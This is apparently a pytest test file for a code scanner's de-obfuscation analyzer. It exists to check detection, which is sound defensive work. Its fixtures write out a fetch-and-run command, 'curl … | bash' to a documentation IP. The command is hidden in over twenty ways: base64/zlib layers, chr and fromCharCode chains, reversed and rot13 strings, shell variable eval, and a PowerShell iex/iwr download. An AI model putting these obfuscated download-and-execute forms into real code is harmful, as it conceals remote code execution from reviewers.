"""De-obfuscation: nested encodings and string building, rescanned with every rule pack."""

from __future__ import annotations

import base64
import bz2
import codecs
import lzma
import zlib

import pytest

from scanner.analyzers._decode import (
    MAX_DECODED_BYTES,
    MAX_DEPTH,
    Budget,
    decode_whole,
    find_payloads,
    fold_line,
    inflate,
)
from scanner.analyzers._text import FileType
from scanner.core.models import Severity
from tests.analyzers.support import of_rule, rule_ids

PAYLOAD = "encoded-payload"
CMD = "curl -s http://203.0.113.5/x | bash"
TAIL = " -s http://203.0.113.5/x | sh"
ROT = codecs.encode(CMD, "rot13")
PY = "import codecs, os\nos.system("
JS = "require('child_process').execSync("


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def payload_findings(scan, files):
    return of_rule(scan(files, "signatures"), f"obfusc.{PAYLOAD}")


def test_nested_layers_are_unwrapped_and_the_chain_is_shown(scan):
    blob = b64(zlib.compress(CMD.encode().hex().encode()))
    script = f'import base64\n\nSETTINGS = {{"theme": "dark", "blob": "{blob}"}}\n'

    findings = payload_findings(scan, {"scripts/run.py": script})

    assert [(f.severity, f.line_number) for f in findings] == [(Severity.CRITICAL, 3)]
    meta = findings[0].metadata
    assert meta["chain"] == ["base64", "zlib", "hex"]
    assert meta["column"] == script.splitlines()[2].index(blob) + 1
    assert meta["end_column"] == meta["column"] + len(blob) - 1
    assert meta["decoded_preview"] == CMD
    assert meta["inner_rules"] == ["rce.pipe-to-shell"]


@pytest.mark.parametrize(
    ("codec", "compress"),
    [("zlib", zlib.compress), ("gzip", __import__("gzip").compress), ("bz2", bz2.compress),
     ("lzma", lzma.compress)],
)  # fmt: skip
def test_every_compression_is_inflated(codec, compress):
    found = inflate(compress(CMD.encode()))

    assert found == (codec, CMD.encode())


def test_base64_wrapped_over_lines_is_joined(scan):
    lines = b64(((CMD + "\n") * 4).encode()).encode()
    wrapped = "\n".join(lines[i : i + 60].decode() for i in range(0, len(lines), 60))
    script = f"#!/bin/sh\nbase64 -d > /tmp/s <<'EOF'\n{wrapped}\nEOF\n"

    findings = payload_findings(scan, {"scripts/s.sh": script})

    assert [(f.severity, f.line_number) for f in findings] == [(Severity.CRITICAL, 3)]


BUILT = {
    "python chr chain": ("x.py", PY + f"chr(99)+chr(117)+chr(114)+chr(108) + '{TAIL}')"),
    "python map chr": ("x.py", PY + f"''.join(map(chr, [99, 117, 114, 108])) + '{TAIL}')"),
    "python bytes": ("x.py", PY + f"bytes([99, 117, 114, 108]).decode() + '{TAIL}')"),
    "python concatenation": ("x.py", PY + "'cu'+'rl -s http://203.0.113.5/x | ba'+'sh')"),
    "python escapes": ("x.py", PY + f"'\\x63\\x75\\x72\\x6c{TAIL}')"),
    "python reversed": ("x.py", PY + f"'{CMD[::-1]}'[::-1])"),
    "python rot13": ("x.py", PY + f"codecs.decode('{ROT}', 'rot13'))"),
    "js fromCharCode": ("x.js", JS + f"String.fromCharCode(99,117,114,108) + '{TAIL}');"),
    "js array join": ("x.js", JS + f"['c','u','r','l'].join('') + '{TAIL}');"),
    "js reverse": ("x.js", JS + f"'{CMD[::-1]}'.split('').reverse().join(''));"),
    "powershell char": (
        "x.ps1",
        "& ([char]105+[char]101+[char]120) (iwr http://203.0.113.5/a.ps1)",
    ),
    "shell ansi-c": ("x.sh", f"$'\\x63\\x75\\x72\\x6c'{TAIL}"),
    "shell printf": ("x.sh", f"$(printf '\\143\\165\\162\\154'){TAIL}"),
    "shell quotes": ("x.sh", "c'u'r\"l\" -s http://203.0.113.5/x | b'a'sh"),
    "shell rev": ("x.sh", f"echo '{CMD[::-1]}' | rev | sh"),
    "shell tr rot13": ("x.sh", f"echo '{ROT}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"),
    "shell variables": (
        "x.sh",
        'a="cu"; b="rl"; c=" -s ht"; d="tp://203.0.113.54/p"; e="|s"; f="h"\neval "$a$b$c$d $e$f"',
    ),
    "python variables": ("x.py", PY + "a)\na = 'cu'\nb = 'rl" + TAIL + "'\nos.system(a + b)"),
    "hex list": ("x.py", PY + "bytes([0x63, 0x75, 0x72, 0x6c]).decode() + '" + TAIL + "')"),
    "shell rev here-string": ("x.sh", f"p=$(rev <<<'{CMD[::-1]}'); eval \"$p\""),
    "codes passed to a local decoder": (
        "x.js",
        "const S = (...c) => String.fromCharCode(...c);\n"
        f"run(S({', '.join(str(ord(c)) for c in CMD)}));",
    ),
    "bare code list": (
        "x.js",
        f"const T = [{', '.join(str(ord(c)) for c in CMD)}];\n"
        "new Function(String.fromCharCode.apply(null, T))();",
    ),
}


@pytest.mark.parametrize("case", list(BUILT), ids=list(BUILT))
def test_built_strings_are_judged_in_place(scan, case):
    name, code = BUILT[case]

    findings = payload_findings(scan, {f"scripts/{name}": code})

    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "rce.pipe-to-shell" in findings[0].metadata["inner_rules"]


FONT = b64(bytes(range(256)) * 8)
HARMLESS = {
    "greeting": ("x.py", "print('Hello, ' + 'world')\nlabel = chr(65) + chr(66) + chr(67)\n"),
    "byte table": ("x.py", "MAGIC = bytes([0x89, 0x50, 0x4E, 0x47])\nprint(MAGIC)\n"),
    "js join": ("x.js", "const s = ['a', 'b', 'c'].join('');\nconsole.log('x' + 'y');\n"),
    "shell quotes": (
        "x.sh",
        'echo "it\'s" done\nname="a"\'b\'\nprintf \'\\x1b[1m%s\\x1b[0m\\n\' "$name"\n',
    ),
    "escaped colours": (
        "x.py",
        "BOLD = '\\x1b[1m'\nRESET = '\\x1b[0m'\nprint(BOLD + 'ok' + RESET)\n",
    ),
    "base64 config": ("x.py", f"CONFIG = '{b64(b'theme=dark; language=en; page_size=50')}'\n"),
    "png": ("assets/logo.png.b64", b64(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)),
    "font": ("assets/font.css", f"@font-face {{ src: url(data:font/woff2;base64,{FONT}); }}"),
    "shell variables": (
        "x.sh",
        'DIR="build"\nNAME="app"\nmkdir -p "$DIR/$NAME"\necho "$DIR $NAME"\n',
    ),
    "python variables": ("x.py", 'first = "Ada"\nlast = "Lovelace"\nprint(first + " " + last)\n'),
    "reversed word": ("x.py", "print('olleh'[::-1])\n"),
    "number table": ("x.py", f"SIZES = [{', '.join(str(n) for n in range(40, 120, 4))}]\n"),
}


@pytest.mark.parametrize("case", list(HARMLESS), ids=list(HARMLESS))
def test_harmless_decoded_content_raises_nothing(scan, case):
    name, code = HARMLESS[case]

    assert rule_ids(scan({name: code}, "signatures"), at_least=Severity.MEDIUM) == set()


def test_depth_is_bounded():
    data = CMD.encode()
    for _ in range(MAX_DEPTH + 2):
        data = b64(data).encode()
    text = f'X = "{data.decode()}"'

    payloads = find_payloads(text, kind=FileType.PYTHON)

    deepest = max(len(layer.chain) for p in payloads for layer in p.layers)
    assert deepest == MAX_DEPTH
    assert all(layer.text != CMD for p in payloads for layer in p.layers)


def test_decompression_bomb_is_capped():
    bomb = b64(zlib.compress(b"A" * (50 * MAX_DECODED_BYTES)))

    payloads = find_payloads(f'X = "{bomb}"', kind=FileType.PYTHON)

    sizes = [len(layer.data) for payload in payloads for layer in payload.layers]
    assert sizes[0] == MAX_DECODED_BYTES
    assert max(sizes) == MAX_DECODED_BYTES


def test_file_budget_stops_decoding():
    blobs = "\n".join(f'X{i} = "{b64(bytes([i]) * 3000)}"' for i in range(40))

    payloads = find_payloads(blobs, kind=FileType.PYTHON, budget=Budget(decoded_bytes=10_000))

    assert len(payloads) == 3


def test_whole_text_decoders():
    assert decode_whole(CMD.encode().hex()) == ("hex", CMD.encode())
    assert decode_whole(b64(CMD.encode())) == ("base64", CMD.encode())
    assert decode_whole("just a sentence") is None
    assert decode_whole("Abcdefghijklmnopqrstuv") is None


def test_fold_line_joins_literals_and_drops_shell_quotes():
    assert fold_line("run('cu' + \"rl\" + 'x')", FileType.JAVASCRIPT) == 'run("curlx")'
    assert fold_line("x = 'cu' \"rl\"", FileType.PYTHON) == 'x = "curl"'
    assert fold_line("c'u'r\"l\" $'x'", FileType.SHELL) == "curl x"
    assert fold_line('& ("iex") (iwr a)', FileType.POWERSHELL) == "& iex (iwr a)"


def test_binary_payload_is_scanned_with_the_yara_packs(scan):
    elf = (
        bytes.fromhex("7f454c46020101000000000000000000")
        + b"\0stratum+tcp://pool.example.invalid:1\0"
    )
    script = f'import base64\nBIN = "{b64(zlib.compress(elf))}"\n'

    findings = payload_findings(scan, {"scripts/x.py": script})

    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert findings[0].metadata["inner_rules"] == ["yara.miner-binary"]
    assert findings[0].metadata["chain"] == ["base64", "zlib"]
